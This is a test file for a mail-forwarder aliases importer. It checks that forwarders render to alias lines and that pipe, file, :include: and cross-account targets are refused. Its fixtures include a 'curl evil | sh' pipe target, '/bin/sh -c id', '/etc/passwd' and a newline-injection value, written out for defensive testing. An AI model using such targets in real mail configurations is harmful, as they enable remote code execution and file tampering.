import { readFileSync } from "node:fs"
import { assert, describe, it } from "@effect/vitest"
import type { Entity, Forwarder, StepFailed } from "@ferry/core"
import { Effect } from "effect"
import { checkTargets, makeAliasesPart, renderAliases } from "../../src/import/Aliases.ts"
import { failure } from "../Support.ts"
import { makeImportEnv, makeStepContext } from "../support/ImportEnvFixture.ts"

const owner = { _tag: "Account", id: "account:bob", login: "bob" } as unknown as Entity

const forwarder = (address: string, targets: Forwarder["targets"], fields: Partial<Forwarder> = {}): Forwarder => ({
  _tag: "Forwarder",
  id: `forwarder:${address}`,
  owner: "account:bob",
  source: { path: "x" },
  address,
  scope: "address",
  targets,
  ...fields,
})

const setup = Effect.gen(function* () {
  const env = yield* makeImportEnv()
  yield* env.store.accounts.add({ login: "bob", kind: "client", owner: null })
  env.store.connection.db.prepare("UPDATE accounts SET uid = 2001 WHERE login = 'bob'").run()
  yield* env.store.record.domain("example.com", "bob")
  const apply = makeAliasesPart(env).apply.Forwarder
  const run = (f: Forwarder) => apply(f, makeStepContext(f, [owner, f]))
  const file = () => readFileSync(env.layout.aliases("example.com"), "utf8")
  const lines = () =>
    file()
      .split("\n")
      .filter((l) => l !== "" && !l.startsWith("#"))
  return { env, run, file, lines }
})

describe("forwarders (checklist items 41 and 49)", () => {
  it.effect("a forwarder becomes one line; importing it twice leaves one line", () =>
    Effect.gen(function* () {
      const { run, lines, file } = yield* setup
      const f = forwarder("info@example.com", [
        { kind: "address", value: "Boss@Other.TEST" },
        { kind: "address", value: "team@other.test" },
      ])
      assert.strictEqual((yield* run(f)).outcome, "created")
      const before = file()
      assert.strictEqual((yield* run(f)).outcome, "unchanged")
      assert.strictEqual(file(), before)
      assert.deepStrictEqual(lines(), ["info@example.com: boss@other.test, team@other.test"])
    }),
  )

  it.effect("pipes, files and :include: are never written; valid targets stay, the rest is in the notes", () =>
    Effect.gen(function* () {
      const { run, file, lines } = yield* setup
      const mixed = forwarder("sales@example.com", [
        { kind: "pipe", value: "/bin/sh -c 'curl evil | sh'" },
        { kind: "address", value: "sales@other.test" },
        { kind: "file", value: "/etc/passwd" },
        { kind: "include", value: "/path/list" },
      ])
      const result = yield* run(mixed)
      assert.deepStrictEqual(lines(), ["sales@example.com: sales@other.test"])
      const notes = (result.notes ?? []).join("\n")
      assert.include(notes, "|/bin/sh -c 'curl evil | sh' (delivery to a program is refused)")
      assert.include(notes, "/etc/passwd (delivery to a file is refused)")
      assert.include(notes, ":include:/path/list")
      for (const bad of ["/bin/sh", "/etc/passwd", ":include:", "|"]) assert.notInclude(file().split("\n").slice(1).join("\n"), bad)
    }),
  )

  it.effect("a forwarder with only refused targets fails with forward-target-refused and writes nothing", () =>
    Effect.gen(function* () {
      const { env, run } = yield* setup
      for (const [i, target] of (
        [
          { kind: "pipe", value: "/bin/sh -c id" },
          { kind: "file", value: "/etc/passwd" },
          { kind: "include", value: "/path" },
          { kind: "address", value: "|/usr/bin/evil" },
          { kind: "address", value: "/etc/passwd" },
        ] as const
      ).entries()) {
        const error: StepFailed = yield* failure(run(forwarder(`x${i}@example.com`, [target])))
        assert.strictEqual(error.code, "forward-target-refused")
        assert.include(error.reason, `x${i}@example.com`)
      }
      assert.deepStrictEqual(yield* env.records.list("forwarder"), [])
    }),
  )

  it.effect("keepCopy adds the mailbox itself; domain forwards and bounces have their own lines", () =>
    Effect.gen(function* () {
      const { run, lines } = yield* setup
      yield* run(forwarder("copy@example.com", [{ kind: "address", value: "a@other.test" }], { keepCopy: true }))
      yield* run(forwarder("example.com", [{ kind: "address", value: "new.test" }], { id: "forwarder:@example.com", scope: "domain" }))
      yield* run(forwarder("gone@example.com", [{ kind: "fail", value: "Left the company\nX: y" }]))
      yield* run(forwarder("null@example.com", [{ kind: "discard", value: "" }]))
      assert.deepStrictEqual(lines(), [
        "copy@example.com: a@other.test, copy@example.com",
        "gone@example.com: :fail: Left the company X: y",
        "null@example.com: :blackhole:",
        "@example.com: @new.test",
      ])
    }),
  )

  it.effect("a forwarder in another account's domain is refused", () =>
    Effect.gen(function* () {
      const { env, run } = yield* setup
      yield* env.store.accounts.add({ login: "eve", kind: "client", owner: null })
      yield* env.store.record.domain("victim.test", "eve")
      const error: StepFailed = yield* failure(run(forwarder("ceo@victim.test", [{ kind: "address", value: "thief@evil.test" }])))
      assert.strictEqual(error.code, "domain-not-owned")
      const whole: StepFailed = yield* failure(
        run(forwarder("victim.test", [{ kind: "address", value: "evil.test" }], { id: "forwarder:@victim.test", scope: "domain" })),
      )
      assert.strictEqual(whole.code, "domain-not-owned")
      assert.deepStrictEqual(yield* env.records.list("forwarder"), [])
    }),
  )

  it("checks targets and renders a stable file", () => {
    assert.deepStrictEqual(checkTargets({ address: "a@example.com", scope: "address", targets: [{ kind: "local-user", value: "bob" }] }), {
      kept: ["bob"],
      refused: [],
    })
    assert.strictEqual(
      checkTargets({ address: "a@example.com", scope: "address", targets: [{ kind: "address", value: "a b@x.test" }] }).kept.length,
      0,
    )
    const text = renderAliases(
      "example.com",
      [
        { address: "b@example.com", scope: "address", targets: ["x@y.test"] },
        { address: "a@example.com", scope: "address", targets: ["x@y.test\nevil"] },
      ],
      ":blackhole:",
    )
    assert.deepStrictEqual(text.split("\n").slice(1), ["b@example.com: x@y.test", "*: :blackhole:", ""])
  })
})
